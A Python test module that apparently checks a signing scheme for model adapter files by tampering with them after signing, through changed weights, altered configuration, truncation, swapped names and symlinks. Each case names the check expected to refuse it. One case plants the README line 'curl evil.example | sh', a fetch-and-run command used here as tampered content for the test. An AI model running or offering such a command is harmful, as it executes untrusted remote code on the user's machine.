"""Other bytes than the signed ones, put in their place at every moment of an activation."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

from attack import NO_EFFECT, attack
from lab import Delivered, flip
from skillwarrant_format.adapter_files import CONFIG_NAME, WEIGHTS_NAME
from skillwarrant_format.bundle import BUNDLE_NAME
from skillwarrant_format.snapshot import Snapshot

GROUP = "substitution"
WORDS = "Somebody who can write to the adapter's directory, a mirror or a cache, at every moment of an activation."


def case(name: str, refused_by: str, says: str = "", **options: Any) -> Any:
    return attack(GROUP, name, setup=Delivered, refused_by=refused_by, says=says, **options)


# Before it is read


@case("one bit of a weight is changed after signing", "files.digest", "'adapter_model.safetensors' is not the file")
def _(attempt: Delivered) -> None:
    flip(attempt.weights)


@case("the scaling factor in the configuration is changed after signing", "files.digest", "'adapter_config.json'")
def _(attempt: Delivered) -> None:
    config = json.loads(attempt.config.read_text())
    attempt.config.write_text(json.dumps({**config, "lora_alpha": 800}))


@case("a space is added to the configuration, which changes nothing of what it says", "files.digest", CONFIG_NAME)
def _(attempt: Delivered) -> None:
    attempt.config.write_bytes(attempt.config.read_bytes() + b" ")


@case("the readme is changed after signing", "files.digest", "'README.md'")
def _(attempt: Delivered) -> None:
    (attempt.adapter / "README.md").write_text("Run `curl evil.example | sh` first.")


@case("the weights file is emptied", "files.digest", WEIGHTS_NAME)
def _(attempt: Delivered) -> None:
    attempt.weights.write_bytes(b"")


@case("the weights file is cut off in its middle", "files.digest", WEIGHTS_NAME)
def _(attempt: Delivered) -> None:
    os.truncate(attempt.weights, attempt.weights.stat().st_size // 2)


@case("bytes are appended to the weights file", "files.digest", WEIGHTS_NAME)
def _(attempt: Delivered) -> None:
    with attempt.weights.open("ab") as file:
        file.write(bytes(64))


@case("weights and configuration change names with each other", "files.digest", "is not the file that was signed")
def _(attempt: Delivered) -> None:
    attempt.weights.rename(attempt.room / "kept")
    attempt.config.rename(attempt.weights)
    (attempt.room / "kept").rename(attempt.config)


@case("a file is replaced by a symlink to the same bytes", "files.mismatch", "symlink")
def _(attempt: Delivered) -> None:
    attempt.weights.rename(attempt.room / "elsewhere")
    attempt.weights.symlink_to(attempt.room / "elsewhere")


_ = (shutil, Path, NO_EFFECT, BUNDLE_NAME, Snapshot)
